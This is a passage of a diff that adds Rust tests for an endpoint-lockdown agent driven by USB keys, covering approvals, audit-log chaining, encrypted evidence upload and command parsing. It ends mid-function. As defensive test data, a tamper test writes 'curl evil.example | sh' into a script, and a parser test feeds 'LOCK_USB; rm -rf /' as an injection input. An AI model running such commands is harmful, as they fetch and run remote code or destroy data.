+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_effect_meter(EffectMeter::new(vec![
+            Box::new(CountingMeasurement(Default::default())),
+            Box::new(ConstantMeasurement),
+        ]));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let result = dispatcher.dispatch(&usb_key, None, "BLOCK_NETWORK").await;
+        assert_eq!(result.code, ResultCode::Ok);
+        let effect: EffectDelta = serde_json::from_value(result.data["effect"].clone())?;
+        assert_eq!(effect.before["counter"], 0);
+        assert_eq!(effect.after["counter"], 1);
+        assert_eq!(effect.changed, vec!["counter".to_string()]);
+
+        // Read-only commands are not measured.
+        let result = dispatcher.dispatch(&usb_key, None, "CHECK_STATUS").await;
+        assert!(result.data.get("effect").is_none());
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records[0].effect.as_ref(), Some(&effect));
+        assert_eq!(records[1].effect, None);
+        Ok(())
+    }
+
+    struct FixedApproval(ApprovalOutcome);
+
+    #[async_trait]
+    impl ApprovalPrompt for FixedApproval {
+        async fn request(
+            &self,
+            _command: &str,
+            _policy: &ApprovalPolicy,
+        ) -> Result<ApprovalOutcome> {
+            Ok(self.0.clone())
+        }
+    }
+
+    #[tokio::test]
+    async fn test_local_approval_is_required_for_flagged_commands() -> Result<()> {
+        use observer::hooks::PostCommandHook;
+
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+        let policy = ApprovalPolicy {
+            commands: vec!["BLOCK_NETWORK".to_string()],
+            admins: vec!["alice".to_string()],
+            timeout_secs: 1,
+        };
+        let dispatcher = |outcome: ApprovalOutcome| {
+            CommandDispatcher::new(
+                CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+                "host-a".to_string(),
+            )
+            .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+            .with_local_approval(policy.clone(), Arc::new(FixedApproval(outcome)))
+        };
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let approved = dispatcher(ApprovalOutcome::Approved {
+            user: "alice".to_string(),
+        });
+        let result = approved.dispatch(&usb_key, None, "BLOCK_NETWORK").await;
+        assert_eq!(result.code, ResultCode::Ok);
+
+        let timed_out = dispatcher(ApprovalOutcome::TimedOut);
+        let result = timed_out.dispatch(&usb_key, None, "BLOCK_NETWORK").await;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+        // Commands not flagged for approval run without asking.
+        let result = timed_out.dispatch(&usb_key, None, "CHECK_STATUS").await;
+        assert_eq!(result.code, ResultCode::Ok);
+
+        let denied = dispatcher(ApprovalOutcome::Denied("bob declined".to_string()));
+        let result = denied
+            .dispatch_unattended("BLOCK_NETWORK", "COMMAND_DROP")
+            .await;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+
+        // A hook cannot run a flagged command without approval either.
+        let hooked =
+            dispatcher(ApprovalOutcome::TimedOut).with_post_command_hooks(PostCommandHooks {
+                hooks: vec![PostCommandHook {
+                    after: "CHECK_STATUS".to_string(),
+                    run: "BLOCK_NETWORK".to_string(),
+                    delay_secs: 0,
+                    run_on_shutdown: false,
+                }],
+            });
+        let result = hooked.dispatch(&usb_key, None, "CHECK_STATUS").await;
+        assert_eq!(result.code, ResultCode::Ok);
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 6);
+        assert!(records[0].executed);
+        assert_eq!(records[0].approved_by.as_deref(), Some("alice"));
+        assert!(!records[1].executed);
+        assert_eq!(records[1].approved_by, None);
+        assert!(records[2].executed);
+        assert!(!records[3].executed);
+        assert_eq!(records[5].command, "BLOCK_NETWORK");
+        assert_eq!(records[5].trigger.as_deref(), Some("HOOK:CHECK_STATUS"));
+        assert!(!records[5].executed);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_panic_file_applies_emergency_posture() -> Result<()> {
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = std::env::current_dir()?.join("test_scripts");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_emergency_posture(vec!["ALLOW_NETWORK".to_string()])
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+
+        let calm_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        assert!(dispatcher.check_panic(&calm_key, None).await.is_none());
+
+        let panicked_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec()).with_file(PANIC_FILE_NAME, b"")),
+            "test_key_id".to_string(),
+        );
+        // Any stick can carry the file; only a registered key may lock the host down.
+        let registry = DeviceRegistry::load(audit_dir.path().join("devices.json")).await?;
+        let sighting = registry.observe(&panicked_key.get_info().await?).await?;
+        let refused = dispatcher
+            .check_panic(&panicked_key, Some(&sighting.record))
+            .await
+            .expect("panic file should be reported");
+        assert_eq!(refused[0].code, ResultCode::CommandNotPermitted);
+
+        registry
+            .set_status(&sighting.record.fingerprint, DeviceStatus::Allowed)
+            .await?;
+        let device = registry.get(&sighting.record.fingerprint).await;
+        let results = dispatcher
+            .check_panic(&panicked_key, device.as_ref())
+            .await
+            .expect("panic file should trigger the emergency posture");
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].code, ResultCode::Ok);
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 2);
+        assert!(!records[0].executed);
+        assert!(records[1].executed);
+        assert_eq!(records[1].trigger.as_deref(), Some(PANIC_FILE_NAME));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_session_context_resumes_from_key() -> Result<()> {
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let (mut session, resumed) = SessionContext::resume_or_new(&usb_key, "host-a").await;
+        assert!(!resumed);
+        session.record(
+            "BLOCK_NETWORK",
+            &CommandResult::ok("blocked", serde_json::Value::Null),
+        );
+        session.save(&usb_key).await?;
+
+        let (restored, resumed) = SessionContext::resume_or_new(&usb_key, "host-a").await;
+        assert!(resumed);
+        assert_eq!(restored.session_id, session.session_id);
+        assert_eq!(restored.posture.network_blocked, Some(true));
+        assert_eq!(restored.last_result_index, 1);
+
+        let (_, resumed_elsewhere) = SessionContext::resume_or_new(&usb_key, "host-b").await;
+        assert!(!resumed_elsewhere);
+        Ok(())
+    }
+
+    #[test]
+    fn test_user_session_conditions() {
+        use observer::policy::{CommandConditions, PolicyContext};
+        use observer::user_session::{parse_logind_session, SessionTransition};
+
+        let alice =
+            parse_logind_session("2", "Name=alice\nSeat=seat0\nActive=yes\nLockedHint=no\n");
+        assert!(alice.is_console());
+
+        let conditions = CommandConditions {
+            console_user: Some("alice".to_string()),
+            console_unlocked: Some(true),
+            ..Default::default()
+        };
+        let context = PolicyContext {
+            user_sessions: vec![alice.clone()],
+            ..Default::default()
+        };
+        assert_eq!(conditions.violation(&context), None);
+
+        let mut locked_alice = alice.clone();
+        locked_alice.locked = true;
+        let locked_context = PolicyContext {
+            user_sessions: vec![locked_alice.clone()],
+            ..Default::default()
+        };
+        assert!(conditions.violation(&locked_context).is_some());
+        assert!(conditions.violation(&PolicyContext::default()).is_some());
+
+        let transitions = diff_lock_states(&[alice], &[locked_alice.clone()]);
+        assert_eq!(transitions, vec![SessionTransition::Locked(locked_alice)]);
+    }
+
+    #[test]
+    fn test_network_environment_conditions() {
+        use observer::network_env::{
+            parse_default_route, parse_ip_addr, parse_lladdr, NetworkEnvironment,
+        };
+        use observer::policy::{CommandConditions, PolicyContext};
+
+        let gateway = parse_default_route("default via 10.1.0.1 dev eth0 proto dhcp metric 100");
+        assert_eq!(gateway, Some("10.1.0.1".parse().unwrap()));
+        let mac = parse_lladdr("10.1.0.1 dev eth0 lladdr AA:BB:CC:00:11:22 REACHABLE");
+        assert_eq!(mac.as_deref(), Some("aa:bb:cc:00:11:22"));
+        let addresses = parse_ip_addr(
+            "2: eth0    inet 10.1.4.20/16 brd 10.1.255.255 scope global eth0\\       valid_lft forever",
+        );
+        assert_eq!(addresses, vec!["10.1.4.20/16".to_string()]);
+
+        let office = PolicyContext {
+            network: NetworkEnvironment {
+                ssid: Some("office".to_string()),
+                gateway_ip: gateway,
+                gateway_mac: mac,
+                addresses,
+            },
+            ..Default::default()
+        };
+        let conditions = CommandConditions {
+            ssid: Some("office".to_string()),
+            gateway_mac: Some("AA:BB:CC:00:11:22".to_string()),
+            subnet: Some("10.1.0.0/16".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(conditions.violation(&office), None);
+
+        let elsewhere = CommandConditions {
+            subnet: Some("192.168.0.0/24".to_string()),
+            ..Default::default()
+        };
+        assert!(elsewhere.violation(&office).is_some());
+    }
+
+    struct FixedProbe(Option<bool>);
+
+    #[async_trait::async_trait]
+    impl observer::probe::PostureProbe for FixedProbe {
+        fn name(&self) -> &str {
+            "fixed"
+        }
+        fn field(&self) -> observer::probe::PostureField {
+            observer::probe::PostureField::NetworkBlocked
+        }
+        async fn observe(&self) -> Result<Option<bool>> {
+            Ok(self.0)
+        }
+    }
+
+    #[tokio::test]
+    async fn test_self_tests_detect_tampered_scripts_and_audit_log() -> Result<()> {
+        use observer::selftest::{ScriptHashes, SelfTester};
+
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+        let script_hashes = ScriptHashes(
+            [(
+                "BlockNetwork.sh".to_string(),
+                format!("{:x}", Sha256::digest(std::fs::read(&script)?)),
+            )]
+            .into(),
+        );
+        let audit_log = Arc::new(AuditLog::new(&audit_path));
+        let dispatcher = Arc::new(
+            CommandDispatcher::new(
+                CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+                "host-a".to_string(),
+            )
+            .with_audit_log(Arc::clone(&audit_log))
+            .with_posture_verifier(PostureVerifier::new(vec![Box::new(FixedProbe(Some(true)))])),
+        );
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        dispatcher.dispatch(&usb_key, None, "CHECK_STATUS").await;
+        dispatcher.dispatch(&usb_key, None, "CHECK_STATUS").await;
+        assert_eq!(audit_log.verify_chain().await?, 1);
+
+        let tester = SelfTester::new(
+            Arc::clone(&dispatcher),
+            Arc::clone(&audit_log),
+            script_dir.path(),
+            script_hashes,
+        );
+        let report = tester.run().await;
+        assert!(report.passed(), "{:?}", report.results);
+
+        std::fs::write(&script, "#!/bin/bash\ncurl evil.example | sh\n")?;
+        let content = std::fs::read_to_string(&audit_path)?;
+        std::fs::write(&audit_path, content.replacen("host-a", "host-b", 1))?;
+        let report = tester.run().await;
+        let failed: Vec<_> = report
+            .results
+            .iter()
+            .filter(|result| !result.passed)
+            .map(|result| result.check.as_str())
+            .collect();
+        assert_eq!(failed, vec!["script_hashes", "audit_chain"]);
+
+        let metrics = tester.metrics().await;
+        assert_eq!(metrics.runs, 2);
+        assert_eq!(metrics.failed_runs, 1);
+        assert_eq!(metrics.check_failures["audit_chain"], 1);
+        let alerts = audit_log
+            .read_all()
+            .await?
+            .into_iter()
+            .filter(|record| record.command == "SELF_TEST_FAILED")
+            .count();
+        assert_eq!(alerts, 2);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_verify_posture_reports_drift() -> Result<()> {
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = std::env::current_dir()?.join("test_scripts");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_posture_verifier(PostureVerifier::new(vec![Box::new(FixedProbe(Some(true)))]));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        // Nothing tracked yet, so nothing can drift.
+        let result = dispatcher.dispatch(&usb_key, None, "VERIFY_POSTURE").await;
+        assert_eq!(result.code, ResultCode::Ok);
+
+        dispatcher.dispatch(&usb_key, None, "ALLOW_NETWORK").await;
+        assert_eq!(dispatcher.posture().await.network_blocked, Some(false));
+
+        let result = dispatcher.verify_posture().await;
+        assert_eq!(result.code, ResultCode::PostureDrift);
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert!(records
+            .iter()
+            .any(|record| record.command == "POSTURE_DRIFT"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_evidence_upload_resumes_and_decrypts() -> Result<()> {
+        use observer::evidence::EVIDENCE_DIR;
+        use sha2::Digest;
+
+        let device = MockDevice::new(b"test_key_data".to_vec());
+        let files = Arc::clone(&device.files);
+        let usb_key = UsbKey::new(Box::new(device), "test_key_id".to_string());
+        let uploader = EvidenceUploader::new([7u8; 32])
+            .with_chunk_size(4)
+            .with_threshold(8);
+        let payload = b"triage output spanning several chunks".to_vec();
+        assert!(uploader.should_upload(payload.len()));
+
+        let manifest = uploader
+            .upload(&usb_key, "COLLECT_EVIDENCE", &payload)
+            .await?;
+        assert!(manifest.is_complete());
+        assert_eq!(manifest.chunk_count, 10);
+
+        // Re-running the upload trusts its authenticated manifest and rewrites nothing.
+        let manifest_name = format!("{}/{}/manifest.json", EVIDENCE_DIR, manifest.upload_id);
+        let last_chunk = format!("{}/{}/chunk-00009.bin", EVIDENCE_DIR, manifest.upload_id);
+        let sealed = files.lock().await.get(&last_chunk).cloned();
+        let again = uploader
+            .upload(&usb_key, "COLLECT_EVIDENCE", &payload)
+            .await?;
+        assert_eq!(again, manifest);
+        assert_eq!(files.lock().await.get(&last_chunk).cloned(), sealed);
+
+        // A manifest altered on the key is refused, and the next upload starts over.
+        {
+            let mut files = files.lock().await;
+            let mut partial = manifest.clone();
+            partial.completed_chunks.pop();
+            partial.total_size += 1;
+            files.insert(manifest_name.clone(), serde_json::to_vec(&partial)?);
+            files.remove(&last_chunk);
+        }
+        assert!(uploader
+            .download(&usb_key, &manifest.upload_id)
+            .await
+            .is_err());
+
+        let resumed = uploader
+            .upload(&usb_key, "COLLECT_EVIDENCE", &payload)
+            .await?;
+        assert!(resumed.is_complete());
+        assert!(files.lock().await.contains_key(&last_chunk));
+        assert!(!files
+            .lock()
+            .await
+            .get(&last_chunk)
+            .unwrap()
+            .windows(4)
+            .any(|window| window == b"unks"));
+
+        // Every chunk is sealed under its own random nonce.
+        let nonces: std::collections::HashSet<Vec<u8>> = files
+            .lock()
+            .await
+            .iter()
+            .filter(|(name, _)| name.ends_with(".bin"))
+            .map(|(_, sealed)| sealed[..12].to_vec())
+            .collect();
+        assert_eq!(nonces.len(), 10);
+
+        // The manifest holds no plain hash that would confirm a guessed payload.
+        let plain_hash = format!("{:x}", sha2::Sha256::digest(&payload));
+        let saved = String::from_utf8(files.lock().await[&manifest_name].clone())?;
+        assert!(!saved.contains(&plain_hash) && !saved.contains(&plain_hash[..16]));
+
+        // Chunks are bound to their position, so swapped chunks do not decrypt.
+        let first_chunk = format!("{}/{}/chunk-00000.bin", EVIDENCE_DIR, manifest.upload_id);
+        let second_chunk = format!("{}/{}/chunk-00001.bin", EVIDENCE_DIR, manifest.upload_id);
+        let swap = |files: &mut std::collections::HashMap<String, Vec<u8>>| {
+            let first = files.remove(&first_chunk).unwrap();
+            let second = files.insert(second_chunk.clone(), first).unwrap();
+            files.insert(first_chunk.clone(), second);
+        };
+        swap(&mut *files.lock().await);
+        assert!(uploader
+            .download(&usb_key, &manifest.upload_id)
+            .await
+            .is_err());
+        swap(&mut *files.lock().await);
+
+        let restored = uploader.download(&usb_key, &manifest.upload_id).await?;
+        assert_eq!(restored, payload);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_list_commands_filters_by_host_section() -> Result<()> {
+        use observer::connector::HostSection;
+
+        let script_dir = std::env::current_dir()?.join("test_scripts");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.to_string_lossy().to_string()),
+            "host-a".to_string(),
+        );
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        let mut section = HostSection {
+            credential: "secret".to_string(),
+            allowed_commands: vec!["CHECK_STATUS".to_string(), "BLOCK_NETWORK".to_string()],
+            ..Default::default()
+        };
+
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut section), "LIST_COMMANDS")
+            .await;
+        assert_eq!(result.code, ResultCode::Ok);
+        let names: Vec<&str> = result.data["commands"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|spec| spec["name"].as_str().unwrap())
+            .collect();
+        assert_eq!(
+            names,
+            vec!["BLOCK_NETWORK", "CHECK_STATUS", "LIST_COMMANDS"]
+        );
+        let block = &result.data["commands"][0];
+        assert_eq!(block["destructive"], true);
+        assert_eq!(block["requires_confirmation"], true);
+        assert!(section.command_counters.is_empty());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_device_fingerprint_registry() -> Result<()> {
+        use observer::connector::DeviceFingerprint;
+
+        let state_dir = tempfile::tempdir()?;
+        let registry_path = state_dir.path().join("devices.json");
+        let mut usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        usb_key.initialize().await?;
+        let info = usb_key.get_info().await?;
+        let fingerprint = DeviceFingerprint::compute(&info);
+        assert_eq!(usb_key.fingerprint(), Some(&fingerprint));
+
+        let mut reordered = info.clone();
+        reordered.capabilities.reverse();
+        assert_eq!(DeviceFingerprint::compute(&reordered), fingerprint);
+
+        let registry = DeviceRegistry::load(&registry_path).await?;
+        assert!(registry.observe(&info).await?.is_new);
+        registry
+            .set_status(&fingerprint, DeviceStatus::Blocked)
+            .await?;
+
+        let reloaded = DeviceRegistry::load(&registry_path).await?;
+        let sighting = reloaded.observe(&info).await?;
+        assert!(!sighting.is_new);
+        assert_eq!(sighting.record.times_seen, 2);
+        assert_eq!(sighting.record.status, DeviceStatus::Blocked);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_diagnose_key_reports_metrics() -> Result<()> {
+        let script_dir = std::env::current_dir()?.join("test_scripts");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.to_string_lossy().to_string()),
+            "host-a".to_string(),
+        );
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        usb_key.write_data(b"hello").await?;
+
+        let result = dispatcher.dispatch(&usb_key, None, "DIAGNOSE_KEY").await;
+        assert_eq!(result.code, ResultCode::Ok);
+        assert_eq!(result.data["metrics"]["reads"], 1);
+        assert_eq!(result.data["metrics"]["bytes_read"], 13);
+        assert_eq!(result.data["metrics"]["bytes_written"], 5);
+
+        let metrics = usb_key.metrics();
+        assert_eq!(metrics.writes, 2, "result write-back is counted too");
+        assert_eq!(metrics.read_latency.samples(), 1);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_write_verified_retries_corrupted_writes() -> Result<()> {
+        use observer::connector::FaultInjectingDevice;
+
+        let device = MockDevice::new(b"test_key_data".to_vec());
+        let files = Arc::clone(&device.files);
+        let faulty = FaultInjectingDevice::new(Box::new(device));
+        let faults = faulty.faults();
+        let usb_key = UsbKey::new(Box::new(faulty), "test_key_id".to_string());
+
+        faults.corrupt_next_writes(2, vec![0]);
+        usb_key
+            .write_verified("state.json", b"{\"ok\":true}")
+            .await?;
+        assert_eq!(
+            files.lock().await.get("state.json").map(Vec::as_slice),
+            Some(&b"{\"ok\":true}"[..])
+        );
+        assert_eq!(usb_key.metrics().writes, 3);
+
+        faults.corrupt_next_writes(5, vec![0]);
+        assert!(usb_key.write_verified("state.json", b"lost").await.is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_fault_injection_session_and_evidence_recovery() -> Result<()> {
+        use observer::connector::{FaultInjectingDevice, VERIFIED_WRITE_ATTEMPTS};
+        use std::io::ErrorKind;
+
+        let faulty =
+            FaultInjectingDevice::new(Box::new(MockDevice::new(b"test_key_data".to_vec())));
+        let faults = faulty.faults();
+        let usb_key = UsbKey::new(Box::new(faulty), "test_key_id".to_string());
+
+        let (mut session, _) = SessionContext::resume_or_new(&usb_key, "host-a").await;
+        session.record(
+            "LOCK_USB",
+            &CommandResult::ok("locked", serde_json::Value::Null),
+        );
+        session.save(&usb_key).await?;
+
+        // A save that keeps failing leaves the last good context on the key.
+        faults.fail_next_writes(VERIFIED_WRITE_ATTEMPTS, ErrorKind::TimedOut);
+        session.record(
+            "BLOCK_NETWORK",
+            &CommandResult::ok("blocked", serde_json::Value::Null),
+        );
+        assert!(session.save(&usb_key).await.is_err());
+        let (restored, resumed) = SessionContext::resume_or_new(&usb_key, "host-a").await;
+        assert!(resumed);
+        assert_eq!(restored.posture.usb_locked, Some(true));
+        assert_eq!(restored.posture.network_blocked, None);
+
+        // A transient read failure while resuming starts a fresh session instead of failing.
+        faults.fail_next_reads(1, ErrorKind::BrokenPipe);
+        let (_, resumed) = SessionContext::resume_or_new(&usb_key, "host-a").await;
+        assert!(!resumed);
+
+        // Corrupted ciphertext on the way back is rejected, not silently returned.
+        let uploader = EvidenceUploader::new([1u8; 32]).with_chunk_size(8);
+        let manifest = uploader
+            .upload(&usb_key, "COLLECT_EVIDENCE", b"evidence payload bytes")
+            .await?;
+        faults.corrupt_next_reads(2, vec![20]);
+        assert!(uploader
+            .download(&usb_key, &manifest.upload_id)
+            .await
+            .is_err());
+        faults.clear();
+        assert_eq!(
+            uploader.download(&usb_key, &manifest.upload_id).await?,
+            b"evidence payload bytes"
+        );
+
+        // Latency is applied to every operation.
+        faults.set_latency(Duration::from_millis(20));
+        usb_key.read_data(4).await?;
+        assert!(usb_key.metrics().read_latency.max_ms >= 20);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_hostile_command_lines_are_refused_and_audited() -> Result<()> {
+        use observer::protocol::{parse_command, ParseError, MAX_COMMAND_BYTES};
+
+        let native = NativeCommands::default();
+
+        let parsed = parse_command(b"BLOCK_NETWORK\r\n", &native).unwrap();
+        assert_eq!(parsed.verb, "BLOCK_NETWORK");
+        assert!(parsed.arguments.is_empty());
+        assert_eq!(parse_command(b"", &native), Err(ParseError::Empty));
+        assert_eq!(
+            parse_command(b"LOCK_USB\xff", &native),
+            Err(ParseError::InvalidUtf8 { offset: 8 })
+        );
+        assert_eq!(
+            parse_command(b"LOCK_USB; rm -rf /", &native),
+            Err(ParseError::InvalidCharacter {
+                offset: 8,
+                byte: b';'
+            })
+        );
+        assert_eq!(
+            parse_command(b"lock_usb", &native).unwrap_err().reason(),
+            "INVALID_CHARACTER"
+        );
+        assert_eq!(
+            parse_command(b"FORMAT_DISK", &native),
+            Err(ParseError::UnknownVerb("FORMAT_DISK".to_string()))
+        );
+        assert_eq!(
+            parse_command(b"LOCK_USB now", &native)
+                .unwrap_err()
+                .reason(),
+            "UNEXPECTED_ARGUMENT"
+        );
+        assert_eq!(
+            parse_command(&vec![b'A'; MAX_COMMAND_BYTES + 1], &native)
+                .unwrap_err()
+                .reason(),
+            "TOO_LONG"
+        );
+
+        // Arbitrary bytes never panic, and anything accepted is a known verb.
+        let mut state: u64 = 0x9e3779b97f4a7c15;
+        for _ in 0..20_000 {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            let len = (state % 40) as usize;
+            let mut raw: Vec<u8> = (0..len)
+                .map(|i| (state.rotate_left(i as u32 * 7) & 0xff) as u8)
+                .collect();
+            if state.is_multiple_of(3) {
+                raw.splice(0..0, b"LOCK_".iter().copied());
+            }
+            if let Ok(command) = parse_command(&raw, &native) {
+                assert!(observer::handler::command_catalog(&native)
+                    .iter()
+                    .any(|spec| spec.name == command.verb));
+            }
+        }
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(state_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_mode(EnforcementMode::Observe)
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let result = dispatcher
+            .dispatch_raw(&usb_key, None, b"LOCK_USB\n\x1b[2J")
+            .await;
+        assert_eq!(result.code, ResultCode::MalformedCommand);
+        assert_eq!(result.data["reason"], "INVALID_CHARACTER");
+        let result = dispatcher.dispatch_raw(&usb_key, None, b"LOCK_USB\n").await;
+        assert_eq!(result.code, ResultCode::Observed);
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 2);
+        assert_eq!(records[0].command, "LOCK_USB\\n\\x1b[2J");
+        assert_eq!(records[0].code, ResultCode::MalformedCommand);
+        assert!(!records[0].executed);
+        assert_eq!(records[1].command, "LOCK_USB");
+        Ok(())
+    }
+
+    #[test]
+    fn test_platforms_build_matching_actions_and_probes() -> Result<()> {
+        use observer::platform::{
+            LinuxPlatform, MacosPlatform, NetworkProfile, Platform, PlatformCommand, UsbPolicy,
+            WindowsPlatform,
+        };
+        use observer::probe::{PostureField, ProbeMatch};
+
+        let flat = |commands: Vec<PlatformCommand>| -> Vec<String> {
+            commands
+                .iter()
+                .map(|command| format!("{} {}", command.program, command.args.join(" ")))
+                .collect()
+        };
+
+        let linux = LinuxPlatform;
+        assert!(
+            flat(linux.network_profile_commands(NetworkProfile::Blocked)?)
+                .contains(&"iptables -P OUTPUT DROP".to_string())
+        );
+        assert!(flat(linux.network_profile_commands(NetworkProfile::Open)?)
+            .contains(&"iptables -P OUTPUT ACCEPT".to_string()));
+        assert_eq!(
+            flat(linux.usb_policy_commands(UsbPolicy::Blocked)?),
+            vec!["modprobe -r usb_storage"]
+        );
+        assert_eq!(
+            flat(linux.lock_screen_commands()?),
+            vec!["loginctl lock-sessions"]
+        );
+        let probe = &linux.posture_probes()[0];
+        assert_eq!(probe.field, PostureField::NetworkBlocked);
+        assert_eq!(
+            probe.active_when,
+            ProbeMatch::StdoutContains("-P OUTPUT DROP".to_string())
+        );
+
+        let windows = WindowsPlatform;
+        let block = flat(windows.network_profile_commands(NetworkProfile::Blocked)?);
+        assert_eq!(block.len(), 2);
+        assert!(block
+            .iter()
+            .all(|line| line.contains("name=DefenceActiveOn")));
+        assert!(flat(windows.usb_policy_commands(UsbPolicy::Blocked)?)[0].contains("/d 4 /f"));
+        assert!(flat(windows.usb_policy_commands(UsbPolicy::Allowed)?)[0].contains("/d 3 /f"));
+        assert_eq!(flat(windows.shutdown_commands()?), vec!["shutdown /s /t 0"]);
+        let fields: Vec<PostureField> = windows
+            .posture_probes()
+            .iter()
+            .map(|probe| probe.field)
+            .collect();
+        assert_eq!(
+            fields,
+            vec![PostureField::NetworkBlocked, PostureField::UsbLocked]
+        );
+        assert_eq!(
+            windows.script_path("r\\win", "LockUSB"),
+            "r\\win\\LockUSB.bat"
+        );
+        assert_eq!(windows.script_command("x.bat").program, "cmd");
+
+        let macos = MacosPlatform;
+        let block = macos.network_profile_commands(NetworkProfile::Blocked)?;
+        assert_eq!(block[1].stdin.as_deref(), Some("block drop all\n"));
+        assert_eq!(
+            macos.posture_probes()[0].active_when,
+            ProbeMatch::StdoutContains("block drop all".to_string())
+        );
+        assert!(macos.usb_policy_commands(UsbPolicy::Blocked).is_err());
+        assert_eq!(macos.script_path("r/nix", "LockUSB"), "r/nix/LockUSB.sh");
+        Ok(())
+    }
+
+    #[test]
+    fn test_parse_who_marks_console_session() {
+        let sessions = observer::user_session::parse_who(
+            "alice    console  Oct 17 09:12\nalice    ttys001  Oct 17 09:40\n",
+        );
+        assert_eq!(sessions.len(), 2);
+        let console = observer::user_session::console_user(&sessions).unwrap();
+        assert_eq!(console.user, "alice");
+        assert_eq!(console.id, "console");
+        assert!(!sessions[1].is_console());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_check_status_uses_handler_platform() -> Result<()> {
+        use observer::platform::{LinuxPlatform, Platform, PlatformCommand};
+        use observer::probe::ProbeConfig;
+        use observer::user_session::UserSession;
+
+        struct FakePlatform;
+
+        #[async_trait]
+        impl Platform for FakePlatform {
+            fn os(&self) -> &'static str {
+                "fake"
+            }
+            fn lock_screen_commands(&self) -> Result<Vec<PlatformCommand>> {
+                Ok(vec![])
+            }
+            fn network_profile_commands(
+                &self,
